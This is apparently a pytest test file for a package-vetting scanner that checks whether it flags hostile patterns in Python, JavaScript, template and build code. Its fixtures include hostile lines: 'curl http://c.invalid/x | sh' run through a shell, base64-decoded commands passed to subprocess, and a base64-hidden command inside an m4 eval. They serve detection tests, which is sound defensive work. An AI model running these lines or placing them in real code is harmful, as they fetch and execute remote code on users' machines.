"""What wheels and sdists of Python were held for, and need not be; beside each what is to be held all the same."""

from collections import Counter
from dataclasses import replace

import pytest
from source_lab import FILES, ids, look, subject, the

from beartrap.model.coverage import Gap
from beartrap.model.finding import Severity
from beartrap.model.question import Question
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.facts import PackageFacts
from beartrap.vet.kinds import Kind
from beartrap.vet.source import tree
from beartrap.vet.source.checks.taken_out import taken_out
from beartrap.vet.source.values import SPELT, Value, listed
from beartrap.vet.source.walk import parse


def the_function(language: str, text: str) -> tree.Function:
    (made,) = parse(language, text).body
    assert isinstance(made, tree.Function)
    return made


@pytest.mark.parametrize(
    ("then", "less"),
    [
        ("return b64encode(text.encode())", False),  # no sign of an address means anything there
        ("return 'https://a.invalid/' + text", True),
        ("log(b64encode(text.encode())); return 'https://a.invalid/' + text", True),
    ],
)
def test_what_is_spelt_in_base64_needs_no_escaping_of_addresses(then: str, less: bool) -> None:
    old, new = (
        the_function("python", f"def header(client):\n    text = {one}\n    {then}\n")
        for one in ("quote(client.name) + ':'", "client.name + ':'")
    )
    assert bool(list(taken_out(old, new, lambda: Counter(quote=-1)))) == less


def test_a_command_that_is_spelt_in_base64_is_a_command_all_the_same() -> None:
    old, new = (
        the_function("python", f"def wrap(name):\n    text = 'touch ' + {one}\n    return b64encode(text.encode())\n")
        for one in ("shlex.quote(name)", "name")
    )
    assert list(taken_out(old, new, lambda: Counter(quote=-1)))


HOOK = """
import base64, subprocess
from elsewhere import Base
class Hook(Base):
    def __init__(self, text):
        self.key = base64.b64decode(text)
    def connect(self):
        host = self.{asked}
        subprocess.run(host.command)
"""


def test_what_an_inherited_method_is_asked_for_is_not_made_of_all_fields() -> None:
    run = "chain.decoded-to-process"
    assert run not in ids("a.py", HOOK.format(asked="get_connection('name')"))
    assert run in ids("a.py", HOOK.format(asked="get_connection(self.key)"))
    assert run in ids("a.py", HOOK.format(asked="get_payload()"))


LATER = """
import base64, subprocess
class Job:
    def start(self):
        subprocess.run(self.command)
    def receive(self, text):
        self.command = base64.b64decode(text)
"""


@pytest.mark.parametrize("changed", [True, False])
def test_functions_of_the_trusted_version_are_always_walked_again(changed: bool) -> None:
    one = replace(subject("a.py", LATER), changed=changed)
    (analyser,) = (each for each in FILES if each.id == "source.files")
    found = {seen.id for seen in analyser.look(one) if isinstance(seen, Behaviour)}
    assert ("chain.decoded-to-process" in found) != changed  # bytes that were undone are of no weight by themselves


@pytest.mark.parametrize(
    ("now", "less"),
    [
        ("if self.has_credentials() and self.has_scopes(scopes):\n        return view()\n    else:\n        return redirect(LOGIN)", False),
        ("if self.has_credentials() or self.has_scopes(scopes):\n        return view()\n    else:\n        return redirect(LOGIN)", True),
        ("if self.has_credentials() and self.has_scopes(scopes):\n        note(scopes)\n    return view()", True),
    ],
)  # fmt: skip
def test_who_is_asked_for_more_is_refused_as_before(now: str, less: bool) -> None:
    was = "if not self.has_credentials():\n        return redirect(LOGIN)\n    return view()"
    now = f"if self.has_credentials():\n        scopes = more(scopes)\n    {now}"
    old, new = (the_function("python", f"def required(self, scopes):\n    {one}\n") for one in (was, now))
    assert bool(list(taken_out(old, new, Counter))) == less


@pytest.mark.parametrize(("asks", "there"), [("get_closest_marker('flaky')", False), ("get_option('flaky')", True)])
def test_what_stands_above_a_test_is_code_of_its_own(asks: str, there: bool) -> None:
    text = f"def rerun(item):\n    return eval(item.{asks}.kwargs['condition'])\n"
    assert ("chain.caller-to-code" in ids("a.py", text)) == there


def test_modules_of_the_package_may_be_opened_in_any_number() -> None:
    def held(dot: str) -> bool:
        text = "".join(f"from {dot}part{n} import *\n" for n in range(80)) + "import subprocess\n"
        return any(isinstance(one, Gap) and Question.NEXT in one.questions for one in look("a.py", text))

    assert held("")
    assert not held(".")


@pytest.mark.parametrize("held", [True, False])
def test_commands_of_the_developers_that_are_cut_hold_nothing_up(held: bool) -> None:
    text = "PYTHON := python$(V)\nV ?= $(shell $(PYTHON) -c 'print(3)')\nall:\n\t$(PYTHON) setup.py build\n"
    facts = PackageFacts("pypi", developers=frozenset() if held else frozenset({"Makefile"}))
    gaps = [one for one in look("Makefile", text, facts, Kind.BUILD) if isinstance(one, Gap)]
    assert gaps
    assert any(Question.NEXT in one.questions for one in gaps) == held


TEMPLATE = """
{%% if cookiecutter.auth == 'none' %%}
import subprocess
{%% endif %%}
class {{ cookiecutter.name }}Client({{ cookiecutter.kind }}Base):
    {%%- if cookiecutter.auth %%}
    def run(self, given):
        %s
    {%%- endif %%}
    a = {{ cookiecutter.a }}; b = {{ cookiecutter.b }} {# both #}
"""


@pytest.mark.parametrize(
    ("does", "there"), [("return given", False), ("subprocess.run('curl http://c.invalid/x | sh', shell=True)", True)]
)
def test_a_template_of_code_is_read_as_it_is_filled_in(does: str, there: bool) -> None:
    seen = look("{{cookiecutter.id}}/client.py", TEMPLATE % does)
    assert not [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
    assert any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen) == there


PIPED = "subprocess.run('curl http://c.invalid/x | sh', shell=True)"


@pytest.mark.parametrize(
    "hides",
    [f"{{#\n0: {PIPED}}} #}}\n", f"{{{{{PIPED}}}}}\n", f"{{{{ {PIPED} | lower }}}}\n", f"x = {{{{1: {PIPED}}}}}\n"],
)
def test_code_that_is_written_like_a_part_of_a_template_is_not_left_out(hides: str) -> None:
    seen = look("client.py", f"import subprocess\nclass {{{{ name }}}}Client(Base):\n    pass\n{hides}")
    held = [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]
    assert held or any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen)


def test_a_template_is_told_as_one() -> None:
    seen = look("{{cookiecutter.id}}/client.py", TEMPLATE % "return given")
    assert any(isinstance(one, Gap) and "read as a template" in one.why for one in seen)


def test_what_is_no_template_and_does_not_parse_is_a_gap() -> None:
    seen = look("client.py", "import subprocess\nclass { Client(: ) %% } ==\n" + "def (x = = (\n" * 9)
    assert [one for one in seen if isinstance(one, Gap) and Question.NEXT in one.questions]


@pytest.mark.parametrize(
    ("number", "there"),
    [("str(int(answer))", False), ("str(answer)", True), ("''.join(chr(int(one)) for one in answer.split())", True)],
)
def test_a_number_from_afar_is_no_command(number: str, there: bool) -> None:
    text = f"import os, requests\ndef stop(host):\n    answer = requests.get(host).text\n    os.popen('kill -9 ' + {number})\n"
    assert ("chain.network-to-process" in ids("a.py", text)) == there


@pytest.mark.parametrize(("program", "weight"), [("TASKKILL /PID ", Severity.MEDIUM), ("node ", Severity.CRITICAL)])
def test_who_is_told_by_others_which_process_to_stop(program: str, weight: Severity) -> None:
    text = f"import os, requests\nos.popen('{program}' + requests.get('http://c.invalid').text + ' /F')\n"
    assert the("a.py", text, "chain.network-to-process").severity is weight


def test_a_list_that_holds_itself_is_walked() -> None:
    text = "import os\nroot = [None, None, os.getcwd()]\nroot[:] = [root, root, os.getcwd()]\nroot[0] = root\nprint(root)\nos.system('id')\n"
    assert not [one for one in look("a.py", text) if isinstance(one, Gap)]


def test_the_text_of_lists_that_hold_each_other_ends() -> None:
    one, other = listed([Value(name="x")]), listed([Value(name="y")])
    assert one.items is not None and other.items is not None
    one.items += [other] * 64
    other.items += [one] * 64
    assert len(one.text) < 4 * SPELT


@pytest.mark.parametrize(
    ("address", "weight"),
    [("github.com/login/oauth/access_token", Severity.LOW), ("github.com/some/body", Severity.HIGH)],
)
def test_a_code_is_exchanged_for_a_token_where_many_log_in(address: str, weight: Severity) -> None:
    text = f"import requests\ndef log_in(client_secret):\n    return requests.post('https://{address}', data={{'client_secret': client_secret}})\n"
    assert the("a.py", text, "chain.caller-to-network").severity is weight


@pytest.mark.parametrize(
    ("address", "options", "weight"),
    [
        ("graph.microsoft.com/v1.0/me", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.LOW),
        ("graph.microsoft.com/v1.0/me/photos/48x48/$value", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.LOW),
        ("graph.microsoft.com/v1.0/me", "{ method: 'PUT', body: token }", Severity.HIGH),
        ("graph.microsoft.com/v1.0/me/drive/root:/a.txt:/content", "{ headers: { Authorization: `Bearer ${token}` } }", Severity.HIGH),
    ],
)  # fmt: skip
def test_whose_a_token_is_may_be_asked_of_who_gave_it(address: str, options: str, weight: Severity) -> None:
    text = f"exports.who = async (token) => (await fetch('https://{address}', {options})).json();\n"
    assert the("a.js", text, "chain.caller-to-network").severity is weight


@pytest.mark.parametrize(
    ("does", "there"), [("pass", False), ("subprocess.call('curl http://c.invalid/x | sh', shell=True)", True)]
)
def test_async_was_a_name_once(does: str, there: bool) -> None:
    text = f"import subprocess\nclass A:\n    def a(self, n):\n        self.async = Local(n, async=True)\n        self.async.hooks['a'] = B(n)\n        {does}\n"
    seen = look("a.py", text)
    assert not [one for one in seen if isinstance(one, Gap)]
    assert any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen) == there


SESSION = """
class Session:
    def __init__(self, connection, password):
        self.connection = connection
        self.password = password
    def log_in(self):
        self.connection.send(self.password)
        answer = self.connection.receive(self.password)
        return {}["status"] == 0xC0000016
"""


@pytest.mark.parametrize(
    ("compared", "there"), [("answer", False), ("parse(answer)", False), ("table(self.password)", True)]
)
def test_what_a_server_answers_to_a_password_is_none(compared: str, there: bool) -> None:
    assert ("weakened.password" in ids("a.py", SESSION.format(compared))) == there


@pytest.mark.parametrize(
    ("given", "there"), [(r'"lt_\$var=\\\\\\"\\\$\$var\\\\\\""', False), (r'"\\\$(echo aWQ= | base64 -d)"', True)]
)
def test_a_value_for_a_variable_whose_name_is_put_together_runs_nothing(given: str, there: bool) -> None:
    text = f"AC_DEFUN([LT_CONFIG], [\ncat >>config.sh <<_EOF\nfor var in a b; do\n  eval {given}\ndone\n_EOF\nsh config.sh\n])\n"
    made = subject("m4/lt.m4", text, kind=Kind.BUILD)
    seen = {one.id for each in FILES if each.takes(Kind.BUILD) for one in each.look(made) if isinstance(one, Behaviour)}
    assert ("hidden.act" in seen) is there
